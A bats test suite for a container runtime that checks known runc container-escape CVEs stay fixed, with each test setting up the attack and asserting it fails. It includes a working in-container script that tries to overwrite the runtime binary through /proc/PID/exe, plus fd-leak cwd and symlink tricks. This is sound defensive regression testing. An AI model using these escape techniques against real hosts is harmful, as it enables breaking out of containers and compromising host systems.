#!/usr/bin/env bats
# Known runc escapes stay closed. Each test builds the attack's setup inside
# a bundle (statically: the races of the real exploits are replaced by the
# state they race for) and asserts what a fixed runtime does. rauha gets
# these protections from libcontainer (runc v1.5.3 in go.mod, which has all
# the fixes); the tests catch a libcontainer downgrade, a rauha code path
# that bypasses them (its own exec shim, fds it opens), or a config it
# rewrites. Each test says what it would see if the protection were gone.

load helpers

# no_dev_mount: the rootfs's own /dev is used (no tmpfs on /dev), so the
# image controls what /dev/null and /dev/console are, as in the advisories.
no_dev_mount() {
	cfg b '.mounts |= map(select(.destination != "/dev" and .destination != "/dev/shm" and .destination != "/dev/mqueue"))'
	mkdir -p "$(bundle_dir b)/rootfs/dev/pts"
}

@test "CVE-2019-5736: the runtime binary cannot be overwritten through /proc/PID/exe" {
	# The host side runs a private copy of the runtime, so a broken
	# protection damages only the copy (and this test sees it).
	local copy=$BATS_TEST_TMPDIR/runtime-copy sum
	cp "$RUNTIME" "$copy"
	sum=$(sha256sum <"$copy")
	cfg b '.process.capabilities |= with_entries(.value += ["CAP_SYS_PTRACE"])'
	run_ct c1
	# The original exploit: a binary in the image whose interpreter is
	# /proc/self/exe, so exec'ing it runs the runtime's own binary inside
	# the container, where the attacker opens it and, once the runtime
	# exits, reopens that fd for writing.
	printf '#!/proc/self/exe\n' >"$(bundle_dir b)/rootfs/evil"
	chmod 755 "$(bundle_dir b)/rootfs/evil"
	cat >"$(bundle_dir b)/rootfs/attack" <<'EOF'
#!/bin/sh
# Grab an fd to the exe of any process that is not busybox (that is, the
# runtime's init or the runtime started through /evil), then write to it.
end=$(($(date +%s) + 20))
got=
while [ -z "$got" ] && [ "$(date +%s)" -lt "$end" ]; do
	for p in /proc/[0-9]*; do
		case $p in /proc/1 | /proc/$$) continue ;; esac
		exec 3<"$p/exe" 2>/dev/null || continue
		if [ /proc/self/fd/3 -ef /bin/busybox ]; then exec 3<&-; else got=$p; break; fi
	done
done
echo "grabbed ${got:-nothing} $(readlink /proc/self/fd/3 2>/dev/null)" >/attack.log
[ -n "$got" ] || exit 0
end=$(($(date +%s) + 10))
while [ "$(date +%s)" -lt "$end" ]; do
	if printf 'OVERWRITTEN' >>/proc/self/fd/3; then echo WROTE >>/attack.log; exit 0; fi 2>>/attack.log
	sleep 0.2
done
echo "write refused" >>/attack.log
EOF
	chmod 755 "$(bundle_dir b)/rootfs/attack"
	rrun rt exec -d c1 /attack
	assert_success
	local i
	for ((i = 0; i < 30; i++)); do
		timeout 10 "$copy" --root "$ROOT" exec c1 /evil >/dev/null 2>&1 || true
		timeout 10 "$copy" --root "$ROOT" exec c1 true >/dev/null 2>&1 || true
		grep -q '^grabbed /' "$(bundle_dir b)/rootfs/attack.log" 2>/dev/null && break
	done
	retry 150 0.1 grep -qE 'WROTE|write refused|grabbed nothing' "$(bundle_dir b)/rootfs/attack.log"
	cat "$(bundle_dir b)/rootfs/attack.log" >&2
	# The attack must have had its chance: it held the runtime's exe.
	grep -q '^grabbed /proc/' "$(bundle_dir b)/rootfs/attack.log" || fail "the attack never saw the runtime's binary: $(cat "$(bundle_dir b)/rootfs/attack.log")"
	# Without the sealed clone (memfd or read-only overlay), the grabbed fd
	# is the host binary, the write succeeds and the hash changes.
	! grep -q WROTE "$(bundle_dir b)/rootfs/attack.log" || fail "the container wrote to the runtime's exe"
	assert_eq "$(sha256sum <"$copy")" "$sum"
	! grep -q "$copy" "$(bundle_dir b)/rootfs/attack.log" || fail "the container held the host binary itself"
}

# PROBE prints "inside PATH" only when the cwd is reachable from the
# container's root: getcwd(2) of a cwd outside it says "(unreachable)/...".
PROBE='p=$(pwd -P) && case $p in /*) [ . -ef "$p" ] && echo "inside $p" ;; esac'

# cwd_stays_inside: the last rrun failed with one error line about the cwd
# (run exits 1, exec's own failures 255, as runc's do), or its process
# printed a cwd inside the container.
cwd_stays_inside() {
	if [[ $status -eq 0 ]]; then
		[[ $stdout == inside\ /* ]] || { show; fail "cwd escaped the container: $stdout"; }
	else
		assert_error_line 'cwd|/proc/self/fd|directory' '1|255'
	fi
}

@test "CVE-2024-21626: process.cwd /proc/self/fd/N does not reach a host fd" {
	# fds 3-12 of the caller are host directories (what runc leaked was a
	# /sys/fs/cgroup fd); none may be open when the init changes directory.
	# Without the fix, cwd resolves to the host directory and the process
	# runs outside the container's root ("(unreachable)" cwd, host files).
	local n
	for n in 3 4 5 6 7 8 9 10 11 12; do
		cfg b '.process.cwd = $c' --arg c "/proc/self/fd/$n"
		set_args b sh -c "$PROBE"
		rrun bash -c 'exec 3</sys/fs/cgroup 4</ 5</sys/fs/cgroup/unified 6</etc 7</sys/fs/cgroup 8</ 9</ 10</ 11</ 12</; exec timeout 30 "$0" --root "$1" run --bundle "$2" "$3"' \
			"$RUNTIME" "$ROOT" "$(bundle_dir b)" "c$n"
		cwd_stays_inside
		assert_nothing_left "c$n"
	done
}

@test "CVE-2024-21626: exec --cwd /proc/self/fd/N does not reach a host fd" {
	run_ct c1
	local n
	for n in 3 4 5 6 7 8 9 10 11 12; do
		rrun bash -c 'exec 3</sys/fs/cgroup 4</ 5</sys/fs/cgroup/unified 6</etc 7</sys/fs/cgroup 8</ 9</ 10</ 11</ 12</; exec timeout 30 "$0" --root "$1" exec --cwd "$2" c1 sh -c "$3"' \
			"$RUNTIME" "$ROOT" "/proc/self/fd/$n" "$PROBE"
		cwd_stays_inside
	done
	# No fd of the runtime is open in an exec'd process either.
	rrun bash -c 'exec 7</sys/fs/cgroup; exec timeout 30 "$0" --root "$1" exec c1 ls /proc/self/fd' "$RUNTIME" "$ROOT"
	assert_success
	assert_eq "$(sort -n <<<"$stdout" | tr '\n' ' ')" "0 1 2 3 "
}

@test "CVE-2025-31133: maskedPaths never bind-mount what a fake /dev/null points to" {
	no_dev_mount
	local r=$(bundle_dir b)/rootfs
	echo SENTINEL >"$r/etc/target"
	echo SECRET >"$r/etc/masked"
	cfg b '.linux.maskedPaths += ["/etc/masked"]'
	set_args b sh -c 'cat /etc/masked; echo "[end]"; echo w >/etc/masked && echo WRITABLE'
	# Without the fix the mask is a bind mount of the link's target:
	# /etc/masked would read SENTINEL and be writable (in the advisory the
	# target is a procfs file like /proc/sys/kernel/core_pattern).
	# Each case starts from an image /dev that holds only the fake null
	# (libcontainer adds /dev/fd and friends to it on every run).
	local fake
	for fake in abs rel file; do
		rm -rf "$r/dev"
		mkdir -p "$r/dev/pts"
		case $fake in
		abs) ln -s /etc/target "$r/dev/null" ;;
		rel) ln -s ../etc/target "$r/dev/null" ;;
		file) echo SENTINEL >"$r/dev/null" ;;
		esac
		rrun rt run --bundle "$(bundle_dir b)" "c-$fake"
		[[ $output != *SENTINEL* && $output != *SECRET* && $output != *WRITABLE* ]] || { show; fail "masking used the fake /dev/null ($fake)"; }
		if [[ $status -eq 0 ]]; then
			assert_eq "$stdout" '[end]'
		else
			assert_error_line '/dev/null'
		fi
		assert_eq "$(cat "$r/etc/target")" SENTINEL
		assert_nothing_left "c-$fake"
	done
}

@test "CVE-2025-52565: /dev/console bind mount does not follow a symlink" {
	requires go
	local recvtty
	recvtty=$(build_helper recvtty)
	bg "$recvtty" -out "$BATS_TEST_TMPDIR/tty.out" -ready "$BATS_TEST_TMPDIR/tty.ready" "$BATS_TEST_TMPDIR/console.sock"
	wait_file "$BATS_TEST_TMPDIR/tty.ready"
	no_dev_mount
	local r=$(bundle_dir b)/rootfs
	echo SENTINEL >"$r/etc/target"
	ln -s /etc/target "$r/dev/console"
	cfg b '.process.terminal = true'
	set_args b sh -c 'cat /etc/target; stat -c "console=%F" /dev/console; echo done-52565; sleep 3600'
	# Without the fix the pty is mounted where the link points: /etc/target
	# becomes the pty (cat blocks or prints nothing, the host file is
	# shadowed) and /dev/console stays a symlink.
	rrun rt run -d --console-socket "$BATS_TEST_TMPDIR/console.sock" --bundle "$(bundle_dir b)" c1
	if [[ $status -eq 0 ]]; then
		retry 100 0.1 grep -q done-52565 "$BATS_TEST_TMPDIR/tty.out" || fail "no output: $(cat "$BATS_TEST_TMPDIR/tty.out")"
		grep -q SENTINEL "$BATS_TEST_TMPDIR/tty.out" || fail "/etc/target was replaced: $(cat "$BATS_TEST_TMPDIR/tty.out")"
		grep -q 'console=character special file' "$BATS_TEST_TMPDIR/tty.out" || fail "/dev/console is not the pty: $(cat "$BATS_TEST_TMPDIR/tty.out")"
	else
		assert_error_line '/dev/console'
		assert_nothing_left c1
	fi
	assert_eq "$(cat "$r/etc/target")" SENTINEL
}

@test "CVE-2025-52881 / CVE-2019-19921: /proc that is a symlink is refused" {
	# runc writes LSM labels and sysctls through /proc: a /proc the image
	# controls would take those writes into a plain directory.
	local r=$(bundle_dir b)/rootfs
	rm -rf "$r/proc"
	mkdir "$r/fake-proc"
	ln -s /fake-proc "$r/proc"
	cfg b '.linux.sysctl = {"net.ipv4.ip_forward": "1"}'
	set_args b true
	rrun rt run --bundle "$(bundle_dir b)" c1
	assert_error_line 'ordinary directory|symlink|proc'
	[[ -z $(ls -A "$r/fake-proc") ]] || fail "the runtime wrote into the fake /proc: $(ls -A "$r/fake-proc")"
	assert_nothing_left c1
}

@test "CVE-2025-52881: sysctl writes are not redirected by a mount over /proc/sys" {
	# A bundle mount over /proc/sys would receive the sysctl write meant
	# for procfs (the file here would read 1); libcontainer refuses mounts
	# inside /proc, or writes through its own procfs handle.
	local fake=$BATS_TEST_TMPDIR/fake-sys
	mkdir -p "$fake/net/ipv4"
	echo 0 >"$fake/net/ipv4/ip_forward"
	cfg b '.mounts += [{destination: "/proc/sys", type: "bind", source: $s, options: ["rbind"]}] | .linux.sysctl = {"net.ipv4.ip_forward": "1"}' --arg s "$fake"
	set_args b cat /proc/sys/net/ipv4/ip_forward
	rrun rt run --bundle "$(bundle_dir b)" c1
	assert_eq "$(cat "$fake/net/ipv4/ip_forward")" 0
	if [[ $status -eq 0 ]]; then
		assert_eq "$stdout" 1
	else
		assert_error_line 'proc'
		assert_nothing_left c1
	fi
}
